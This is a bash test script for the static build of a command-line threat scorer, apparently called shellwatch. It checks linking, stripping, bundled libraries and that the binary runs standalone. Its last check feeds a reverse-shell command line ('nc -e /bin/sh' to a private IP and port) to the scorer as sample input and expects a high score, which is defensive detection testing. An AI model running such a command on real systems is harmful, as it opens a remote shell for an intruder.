#!/usr/bin/env bash
# static.sh: the static build for the sensor's image (`make static`, mk/static.mk): the binary has
# no dynamic section and no interpreter (ldd and file agree), libbpf, libelf, zlib and json-c are
# inside it, its debug info is beside it, and it works without any file of the tree: it prints its
# usage and scores a command line with the model built into it. Needs no root and no podman.
source "$(dirname "$0")/../lib.sh"
bin=$SW_BUILD/static/shellwatch
if sanitizer_build; then   # ASan's runtime does not link into a static PIE that runs
	tap_skip "the static build" "sanitizer build (make test-asan): \`make test\` checks it"
	exit 0
fi
if [ ! -x "$bin" ]; then
	tap_fail "build/static/shellwatch built" "run make static (make test-build does)"
	exit 0
fi
size=$(stat -c %s "$bin")
echo "# $bin: $size bytes; $(file -b "$bin" 2>/dev/null | cut -d, -f1-4)"
ldd_out=$(ldd "$bin" 2>&1)
echo "# ldd: $ldd_out"
check "no shared library needed (ldd)" grep -qE 'statically linked|not a dynamic executable' <<<"$ldd_out"
if command -v file >/dev/null 2>&1; then
	check "file says static" grep -q 'static' <<<"$(file -b "$bin")"
fi
check "no PT_INTERP, no DYNAMIC NEEDED entries" \
	bash -c "! readelf -lW '$bin' | grep -q 'INTERP' && ! readelf -dW '$bin' | grep -q NEEDED"
check "stripped, with a debuglink to shellwatch.debug" \
	bash -c "readelf -SW '$bin' | grep -q gnu_debuglink && test -s '$bin.debug'"
# Symbols of each library, from the debug file (the binary itself is stripped).
for sym in bpf_object__open_mem:libbpf elf_begin:libelf inflate:zlib json_object_new_object:json-c; do
	check "${sym#*:} is linked in (${sym%%:*})" \
		grep -qw "${sym%%:*}" <<<"$(nm "$bin.debug" 2>/dev/null)"
done
cd "$SW_TMP" || exit 0
check "runs from anywhere: --help" bash -c "env -i '$bin' --help | grep -q 'run'"
score=$(echo "nc -e /bin/sh 10.0.0.1 4444" | env -i "$bin" score 2>&1)
echo "# score of nc -e /bin/sh: $score"
check "scores with its built-in model (nc -e above 0.5)" \
	awk -v s="$(grep -oE '[0-9]+\.[0-9]+' <<<"$score" | head -n 1)" 'BEGIN { exit !(s > 0.5) }'
